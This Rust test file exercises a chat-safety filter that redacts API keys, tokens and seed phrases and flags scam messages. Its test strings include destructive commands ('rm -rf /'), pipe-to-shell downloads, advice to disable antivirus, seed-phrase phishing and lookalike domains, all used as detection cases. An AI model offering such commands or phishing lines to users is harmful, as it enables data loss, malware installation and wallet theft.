use std::sync::LazyLock;

use proptest::prelude::*;

use super::*;
use crate::config::ruleset::Ruleset;

fn rules() -> &'static Ruleset {
    static RULES: LazyLock<Ruleset> = LazyLock::new(Ruleset::embedded);
    &RULES
}

/// Real keys must not stand in a source file, so they are put together here.
fn key(head: &str, length: usize) -> String {
    head.chars().chain("a1B2c3D4e5F6g7H8i9".chars().cycle()).take(head.len() + length).collect()
}

#[test]
fn secrets_are_replaced_by_their_kind() {
    let rules = rules();
    let discord = format!("{}.{}.{}", key("MT", 22), key("G", 5), key("x", 30));
    let hex = "0123456789abcdef".repeat(4);
    let words =
        "apple banana cherry damage eagle fabric garden hammer island jacket kitchen ladder";
    for (text, expected) in [
        (format!("token is {discord} ok"), "token is [redacted: bot token] ok".to_owned()),
        (format!("{}!", key("sk-", 40)), "[redacted: API key]!".into()),
        (key("ghp_", 36), "[redacted: access token]".into()),
        (key("github_pat_", 60), "[redacted: access token]".into()),
        (format!("AKIA{}", "ABCD1234".repeat(2)), "[redacted: API key]".into()),
        (key("xoxb-", 30), "[redacted: access token]".into()),
        (key("AIza", 35), "[redacted: API key]".into()),
        (
            format!("{}.{}.{}", key("eyJ", 20), key("eyJ", 30), key("s", 30)),
            "[redacted: access token]".into(),
        ),
        (format!("my private key: 0x{hex}"), "my private key: [redacted: private key]".into()),
        (format!("block {hex}"), format!("block {hex}")),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----\nso".into(),
            "[redacted: private key]\nso".into(),
        ),
        (
            "mail jo.doe@mail.example.org please".into(),
            "mail [redacted: e-mail address] please".into(),
        ),
        ("git clone git@github.com:a/b".into(), "git clone git@github.com:a/b".into()),
        ("API_SECRET=hunter2hunter2".into(), "API_SECRET=[redacted: credential]".into()),
        ("API_KEY=your-key-here".into(), "API_KEY=your-key-here".into()),
        ("the key: restarting everything".into(), "the key: restarting everything".into()),
        (format!("seed phrase: {words}"), "[redacted: seed phrase]".into()),
        (format!("시드 구문 {words}"), "시드 구문 [redacted: seed phrase]".into()),
        (words.into(), "[redacted: seed phrase]".into()),
        (words.replace(' ', "\n"), "[redacted: seed phrase]".into()),
        (
            "postgres://admin:s3cretpw@db.local/x".into(),
            "postgres://admin:[redacted: password]@db.local/x".into(),
        ),
    ] {
        assert_eq!(redact(&text, &rules.safety), expected);
    }
}

#[test]
fn ordinary_talk_is_borrowed() {
    let rules = rules();
    for text in [
        "have you tried npm i @scope/core@1.2.3 and then bun start?",
        "my seed phrase import does not work, what am I doing wrong with the wallet and the rest of it",
        "Set OPENAI_API_KEY in .env, the token is on the settings page",
        "commit 4b825dc642cb6eb9a060e54bf8d69288fbee4904 broke it",
        "키는 설정 페이지에 있어요",
    ] {
        assert!(matches!(redact(text, &rules.safety), Cow::Borrowed(_)), "{text}");
    }
}

/// What was posted in chat and is none of the secrets that it looks like.
#[test]
fn values_that_only_look_like_secrets_stay() {
    let hex = "0a1b2c3d4e5f6789".repeat(4);
    let base58 = "7GCihgDB8fe6KNjn2MYtkzZcRjQy3t9GHdC8uHYmW2hr";
    for text in [
        format!("fixed in commit {}", &hex[..40]),
        format!("image@sha256:{hex}"),
        format!("tx 0x{hex} reverted"),
        format!("Public key: {hex}"),
        format!("sha256 of the key file is {hex}"),
        format!("mint {base58}"),
        format!("token: {base58}"),
        format!("public key {base58}"),
        format!("signature {base58}{base58} on the explorer"),
        "cache_key=user_profile_v2".into(),
        "foreign_key=order_item_id".into(),
        "const key = generateCacheKey(user)".into(),
        "api_key = settings.api_key_name".into(),
        "apiKey: process.env.OPENAI_API_KEY".into(),
        "password=${DB_PASSWORD}".into(),
        "postgres://user:password@localhost:5432/db".into(),
        "the password is required".into(),
        "error: invalid token: Unexpected2token".into(),
        "use bearer authentication2tokens4everything".into(),
        "ssh root@vps.example.net".into(),
        "mastodon handle @user1@social.example".into(),
        (0..64).map(|n| n.to_string()).collect::<Vec<_>>().join(",").replacen('0', "[0", 1) + "]",
        "try running build command first before start command inside root folder today".into(),
    ] {
        assert_eq!(redact(&text, &rules().safety), text);
    }
}

#[test]
fn secrets_are_found_by_their_place() {
    let value = key("", 24);
    let hex = "0a1b2c3d4e5f6789".repeat(4);
    let bytes = (0..64).map(|n| (n * 97 % 251).to_string()).collect::<Vec<_>>().join(", ");
    for (before, secret, after) in [
        ("tool --api-key ", value.as_str(), " run"),
        ("setx OPENAI_KEY ", &value, ""),
        ("{'apiKey': '", &value, "'}"),
        ("curl -H 'X-API-KEY: ", &value, "' https://a.example"),
        ("curl -u admin:", &value, " https://a.example"),
        ("https://rpc.node.example/?api-key=", &value, " fails"),
        ("wss://solana.quiknode.pro/", &value, "/"),
        ("my api key is ", &value, " and it says 401"),
        ("비밀번호는 ", "비번9876xyz", " 입니다"),
        ("DB_PASSWORD=", "correcthorsebattery", ""),
        ("cast send --private-key ", &format!("0x{hex}"), ""),
        ("pk=", &format!("0x{hex}"), ""),
        ("", &hex, ""),
        ("[", &bytes, "]"),
    ] {
        let redacted = redact(&format!("{before}{secret}{after}"), &rules().safety).into_owned();
        assert!(!redacted.contains(secret) && redacted.contains("[redacted: "), "{redacted}");
        assert!(redacted.starts_with(before.trim_end()), "{redacted}");
    }
}

#[test]
fn disguises_do_not_hide_a_secret() {
    let token = key("ghp_", 36);
    let (head, tail) = token.split_at(24);
    for text in [
        format!("{head}\u{200b}{tail}"),
        format!("ｇｈｐ_{}", &token[4..]),
        format!("{head}\n{tail}"),
        format!("> {head}\n> {tail}"),
        format!("**{token}**"),
        format!("TOKEN_{token}"),
    ] {
        let redacted = redact(&text, &rules().safety).into_owned();
        assert!(!redacted.contains(tail) && redacted.contains("[redacted: "), "{redacted}");
    }
}

#[test]
fn seed_phrases_of_every_list_are_found() {
    for list in bip39::Language::ALL {
        let words = list.word_list().iter().step_by(171).copied().take(12).collect::<Vec<_>>();
        for text in
            [words.join(" "), words.join(", "), format!("here it is:\n{}\nhelp", words.join(" "))]
        {
            let redacted = redact(&text, &rules().safety).into_owned();
            assert!(redacted.contains("[redacted: seed phrase]"), "{redacted}");
            assert!(!redacted.contains(words[5]), "{redacted}");
        }
    }
}

fn refused(text: &str) -> Vec<String> {
    let rules = rules();
    judge_text(text, &rules.safety, &rules.facts)
        .findings
        .into_iter()
        .map(|one| format!("{}: {}", one.kind, one.value))
        .collect()
}

#[test]
fn addresses_invites_and_payment_links_are_found_in_disguise() {
    let evm = format!("0x{}", "aB12".repeat(10));
    let solana = "7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU";
    for (text, expected) in [
        (format!("ca is {evm}"), format!("a contract address: {evm}")),
        (format!("ca is `{}` `{}`", &evm[..20], &evm[20..]), format!("a contract address: {evm}")),
        (format!("ca is {}**{}**", &evm[..20], &evm[20..]), format!("a contract address: {evm}")),
        (format!("send gas to {}", &evm[2..]), format!("a contract address: {}", &evm[2..])),
        (format!("ca: {solana}."), format!("a contract address: {solana}")),
        (
            format!("ca: {} {}", &solana[..21], &solana[21..]),
            format!("a contract address: {solana}"),
        ),
        (
            format!("0x{}", "ab12".repeat(16)),
            format!("an address or hash of 64 digits: 0x{}", "ab12".repeat(16)),
        ),
        ("send 0.1 to helper.sol first".into(), "a wallet name: helper.sol".into()),
        (
            "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq".into(),
            "a wallet address: bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq".into(),
        ),
        ("join DISCORD.GG/Abc".into(), "an invite: DISCORD.GG/Abc".into()),
        ("hxxps://discord[.]gg/abc".into(), "an invite: discord.gg/abc".into()),
        ("disc\u{200b}ord . gg / abc".into(), "an invite: discord.gg/abc".into()),
        ("ｄｉｓｃｏｒｄ．ｇｇ/abc".into(), "an invite: discord.gg/abc".into()),
        ("diѕсоrd.gg/abc".into(), "an invite: discord.gg/abc".into()),
        ("discord (dot) gg/abc".into(), "an invite: discord.gg/abc".into()),
        ("discord dot gg slash abc".into(), "an invite: discord.gg/abc".into()),
        ("https://discord.com/invite/abc".into(), "an invite: discord.com/invite/abc".into()),
        ("t.me/+Qx1".into(), "an invite: t.me/+Qx1".into()),
        ("see bit.ly/3xYz".into(), "a shortened link: bit.ly/3xYz".into()),
        ("pay at https://buy.stripe.com/x1".into(), "a payment link: buy.stripe.com/x1".into()),
        ("paypal.me/someone".into(), "a payment link: paypal.me/someone".into()),
    ] {
        let kinds = refused(&text);
        assert!(kinds.contains(&expected), "{text}: {kinds:?}");
    }
}

#[test]
fn links_that_nobody_listed_are_recognised() {
    for (text, expected) in [
        ("see https://blog.example/x", "a link"),
        ("see www.blog.example", "a link"),
        ("http://203.0.113.9/setup.sh", "a link to an IP address"),
        ("http://3405803785/x", "a link to an IP address"),
        ("https://xn--lizaos-9be.example", "a link with a disguised host"),
        ("https://nоdejs.org/docs", "a link with a disguised host"),
        ("https://nodejs.org@evil.example/login", "a link with a user name before its host"),
        ("https://n0dejs.org/docs", "an imitation of \"nodejs\""),
        ("https://nodejs-support.example/fix", "an imitation of \"nodejs\""),
        ("https://nodejs.org.evil.example/login", "an imitation of \"nodejs\""),
        ("https://dlscord.example/nitro", "an imitation of \"discord\""),
        ("run `npm install @n0dejs/core`", "an imitation of \"nodejs\""),
        ("write at metamaask.io", "an imitation of \"metamask\""),
    ] {
        let kinds = refused(text);
        assert!(kinds.iter().any(|kind| kind.starts_with(expected)), "{text}: {kinds:?}");
    }
}

#[test]
fn harmful_advice_is_refused_in_both_languages() {
    for (text, expected) in [
        ("Run `sudo rm -rf / --no-preserve-root` and restart.", "a destructive command"),
        ("chmod -R 777 / then restart", "a destructive command"),
        (
            "Run curl -fsSL https://fix.example/i.sh | sudo bash",
            "a command that runs what it downloads",
        ),
        ("iwr https://fix.example/a.ps1 | iex", "a command that runs what it downloads"),
        ("Turn off Windows Defender before you start it.", "advice to switch protection off"),
        ("Just dm me for the working file.", "a request for private contact"),
        ("d.m me and I will share it", "a request for private contact"),
        ("Reach out to me privately and I will share it.", "a request for private contact"),
        (
            "Enter your recovery phrase on the site to restore it.",
            "a request for a seed phrase or key",
        ),
        (
            "You need to validate your wallet on the portal first.",
            "a request to connect or validate a wallet",
        ),
        ("저에게 디엠 주시면 알려드릴게요", "a request for private contact"),
        ("복구 구문을 관리자에게 보내 주세요", "a request for a seed phrase or key"),
        ("지갑 인증 사이트에서 승인하세요", "a request to connect or validate a wallet"),
        ("백신을 끄고 다시 실행하세요", "advice to switch protection off"),
        ("are you stupid? just restart it", "an insult"),
        ("Text my colleague on LINE: fix_desk_9 and he does it.", "a contact on a messenger"),
        ("Look for Viber id quickfixes, they know it.", "a contact on a messenger"),
        ("Raise a case with the online support desk there.", "a request for private contact"),
        (
            "The wallet was never synchronised. Open the portal and sign.",
            "a request to connect or validate a wallet",
        ),
        ("Our agents recover the wallet for you.", "a request to connect or validate a wallet"),
        ("open data:text/html;base64,PGI+ in a tab", "a link that holds a page"),
    ] {
        let kinds = refused(text);
        assert!(kinds.iter().any(|kind| kind.starts_with(expected)), "{text}: {kinds:?}");
    }
}

#[test]
fn ordinary_values_and_advice_are_publishable() {
    for text in [
        "4b825dc642cb6eb9a060e54bf8d69288fbee4904",
        "git checkout 4b825dc642cb6eb9a060e54bf8d69288fbee4904 and restart the agent",
        "https://nodejs.org/api/fs.html",
        "http://localhost:3000/agents",
        "curl -fsSL https://bun.sh/install | bash",
        "rm -rf node_modules/ && pnpm install",
        "rm -rf ./cache",
        "chmod +x ./run.sh",
        "01234567-89ab-cdef-0123-456789abcdef",
        "ThisIsAVeryLongCamelCaseIdentifierNameIndeed",
        "rabbit.ly/3x is not a shortener, nor is about.me/x",
        "https://discord.com/channels/1/2/3",
        "contracts/MyToken.sol compiles, and web3.eth.getAccounts() works",
        "connect your wallet in the settings and restart",
        "add the flag on line 20 of agent.ts",
        "find the id on LINE's developer page and put it into LINE_CHANNEL_ID",
        "the wallet is synced once the node has caught up",
        "open a ticket on GitHub with the log",
        "the agent restores its memory from the database",
        "data: 1.5 GB of text/html pages, javascript:void(0) in the menu",
        "set the message me option to true",
        "설정에서 지갑을 연결한 다음 다시 시작하세요",
    ] {
        assert_eq!(refused(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn what_people_listed_may_stand() {
    let rules = rules();
    let evm = format!("0x{}", "aB12".repeat(10));
    let facts = FactRules {
        addresses: vec![evm.clone()],
        invites: vec!["discord.gg/Good".into()],
        links: vec!["ko-fi.com/project".into()],
        domains: vec!["good.example".into()],
        ..FactRules::default()
    };
    let text = format!(
        "{} https://Discord.gg/Good https://ko-fi.com/project/ https://docs.good.example/x discord.gg/good",
        evm.to_lowercase()
    );
    let found = judge_text(&text, &rules.safety, &facts).findings;
    assert_eq!(found.iter().map(|one| one.value.as_str()).collect::<Vec<_>>(), ["discord.gg/good"]);
}

#[test]
fn what_is_not_listed_is_shown_so_that_nothing_can_be_followed() {
    let rules = rules();
    let shown = |text: &str| {
        let verdict = judge_text(text, &rules.safety, &rules.facts);
        verdict.shown(text).map(|shown| shown.into_owned())
    };
    assert_eq!(
        shown("see [the docs](https://blog.example/a?b=1) for 키"),
        Some(
            "see [the docs](hxxps://blog[.]example/a?b=1 [not listed by maintainers]) for 키"
                .into()
        )
    );
    assert_eq!(
        shown(&format!("send it to 0x{} first", "aB12".repeat(10))),
        Some("send it to [contract address not listed by maintainers] first".into())
    );
    assert_eq!(shown("Set the port, you idiot."), Some("Set the port, you ….".into()));
    assert_eq!(shown("Just dm me for the file."), None);
    assert_eq!(shown("Set the port."), Some("Set the port.".into()));
}

#[test]
fn an_answer_must_stand_alone() {
    let rules = rules();
    for (text, code, expected) in [
        ("Restart the service after changing the port.", false, None),
        ("sudo service restart", true, None),
        ("서비스를 다시 시작하세요", false, None),
        ("", false, Some("it has no words")),
        ("👍", false, Some("it has no words")),
        ("yes, thanks!", false, Some("it only says yes, no or thanks")),
        ("https://docs.example.org/a", false, Some("it is only a link")),
        ("restart it", false, Some("it is too short")),
        ("did you restart it after that?", false, Some("it asks back")),
        (
            "as I said, change the port",
            false,
            Some("it refers to something that the reader does not see"),
        ),
        (
            "Check my message above for the port.",
            false,
            Some("it refers to something that the reader does not see"),
        ),
    ] {
        let form = AnswerForm { has_code: code, has_attachment: false };
        assert_eq!(why_not_alone(text, form, &rules.safety), expected, "{text}");
    }
}

#[test]
fn an_answer_that_points_at_its_file_does_not_stand_alone() {
    let rules = rules();
    for (text, has_code, expected) in [
        ("put this into your settings folder", false, Some("it needs the file that came with it")),
        ("첨부한 설정으로 바꾸면 됩니다", false, Some("it needs the file that came with it")),
        ("put this into your settings folder", true, None),
        ("Open the settings and switch off the proxy", false, None),
    ] {
        let form = AnswerForm { has_code, has_attachment: true };
        assert_eq!(why_not_alone(text, form, &rules.safety), expected, "{text}");
    }
}

#[test]
fn a_bad_pattern_is_a_mistake_with_its_key() {
    let safety = "[[unlisted]]\nlisted = 'nowhere'\npattern = 'a'\n[[unlisted]]\nwords = 'x'\n[answer]\nelsewhere = ['[']\n";
    let secrets =
        "[[secret]]\nkind = 'x'\npattern = '('\n[[issued]]\nprefixes = ['']\nbody = 'a'\n";
    let mistakes = Ruleset::parse(|name| match name {
        "safety.toml" => Some(safety.to_owned()),
        "secrets.toml" => Some(secrets.to_owned()),
        _ => None,
    });
    let mistakes = mistakes.unwrap_err();
    let keys = mistakes.iter().map(|mistake| mistake.key.as_str()).collect::<Vec<_>>();
    let expected = [
        "issued[0].prefixes",
        "secret[0].pattern",
        "unlisted[0].listed",
        "unlisted[1].words",
        "answer.elsewhere",
    ];
    assert_eq!(keys, expected);
}

proptest! {
    #[test]
    fn redacting_twice_changes_nothing(
        parts in prop::collection::vec(prop::sample::select(PARTS.to_vec()), 0..12),
        noise in "\\PC{0,20}",
    ) {
        let rules = rules();
        let text = parts.concat() + &noise;
        let once = redact(&text, &rules.safety).into_owned();
        prop_assert!(matches!(redact(&once, &rules.safety), Cow::Borrowed(_)), "{once}");
    }

    #[test]
    fn whatever_is_written_is_judged_and_shown(
        parts in prop::collection::vec(prop::sample::select(LINK_PARTS.to_vec()), 0..12),
        noise in "\\PC{0,20}",
    ) {
        let rules = rules();
        let text = parts.concat() + &noise;
        let verdict = judge_text(&text, &rules.safety, &rules.facts);
        if let Some(shown) = verdict.shown(&text) {
            for found in link_hosts(&shown) {
                let name = found.split(':').next().unwrap_or_default();
                let is_listed = name == "nodejs.org" || name.ends_with(".nodejs.org");
                prop_assert!(is_listed, "{found} in {shown}");
            }
        }
    }
}

const LINK_PARTS: [&str; 14] = [
    "https://",
    "http://",
    "hxxps://",
    "nodejs.org",
    "evil.example",
    "@",
    "/",
    "[.]",
    "](",
    "www.",
    " ",
    "\u{200b}",
    "discord.gg/abc",
    "ｅvil",
];

const PARTS: [&str; 22] = [
    "password: ",
    "\u{200b}",
    "ｇｈｐ_",
    "api_key=",
    "[1,2,3",
    "a8Kd02mXq7Zp41LsTy9v\n> ",
    "key: ",
    "secret=",
    "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    " ",
    "a@b.example.org",
    "seed phrase ",
    "apple banana cherry damage eagle fabric garden hammer island jacket kitchen ladder ",
    "[redacted: API key]",
    "[redacted: ",
    "]",
    "sk-aaaaaaaaaaaaaaaaaaaa1111",
    "\n",
    "bearer ",
    "eyJhbGciOiJIUzI1.eyJzdWIiOiIx",
    "-----BEGIN PRIVATE KEY-----",
    "://u:p4ssw0rd@",
];
